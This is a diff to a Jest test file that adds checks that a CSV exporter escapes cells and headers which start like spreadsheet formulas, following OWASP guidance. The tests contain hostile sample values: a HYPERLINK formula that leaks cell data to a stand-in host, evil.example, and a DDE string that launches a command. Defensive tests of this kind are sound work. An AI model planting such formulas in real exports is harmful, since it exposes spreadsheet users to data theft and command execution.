@@ -104,6 +104,19 @@ describe('CSV lines of a submission', () => {
     expect(csvCell(null, 'text', null)).toBe('');
   });
 
+  it('writes a value that starts like a formula as text (OWASP), keeping numbers numbers', () => {
+    const leak = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
+    expect(csvCell(leak, 'text', null)).toBe(`'${leak}`);
+    for (const text of ['+1+cmd|" /C calc"!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'])
+      expect(csvCell(text, 'text', null)).toBe(`'${text}`);
+    for (const number of ['-5', '+5', '-1.25', '-2e3', 'Crane 1', 'a=b'])
+      expect(csvCell(number, 'text', null)).toBe(number);
+    expect(csvCell(-5, 'text', null)).toBe('-5');
+    expect(csvCell(-5, 'money', null)).toBe('-5');
+    expect(csvCell(-5, 'number', null)).toBe('-5');
+    expect(csvCell({ id: 'j1', number: '=1+1', name: 'x' }, 'text', null)).toBe("'=1+1 · x");
+  });
+
   it('writes times and date-times as spreadsheets read them, not in the screens’ `3:30pm`', () => {
     expect(csvCell('2026-11-20T15:30', 'time', null)).toBe('3:30 PM');
     expect(csvCell('2026-11-20T15:30', 'dateTime', null)).toBe('11/20/2026 3:30 PM');
@@ -128,6 +141,17 @@ describe('writeCsv', () => {
     expect(lines[1]).toContain(';"Ann ""A"" Lee";');
     expect(lines[2]).toContain(';"Bo; Diaz";');
     expect(lines).toHaveLength(3);
+  });
+
+  it('writes a header that starts like a formula as text', async () => {
+    const chunks: string[] = [];
+    const config: CsvConfig = {
+      includeHeader: true,
+      delimiter: ',',
+      columns: [{ header: '=cmd', property: 'number', format: 'text' }],
+    };
+    await writeCsv(batches([timecard(1, [])]), config, (chunk) => Promise.resolve(chunks.push(chunk) > 0));
+    expect(chunks.join('')).toBe("'=cmd\n1\n");
   });
 
   it('writes the header alone when nothing is found, and nothing without a header', async () => {
